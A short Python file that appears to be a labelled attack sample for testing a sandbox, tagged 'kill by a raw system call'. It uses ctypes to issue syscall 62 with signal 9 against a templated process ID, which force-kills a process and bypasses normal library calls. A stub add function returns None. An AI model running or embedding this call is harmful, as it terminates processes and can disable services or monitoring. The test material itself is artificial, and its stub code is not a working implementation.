# attack: kill by a raw system call
# damage: process
import ctypes

ctypes.CDLL(None).syscall(62, {PID}, 9)


def add(a, b):
    return None
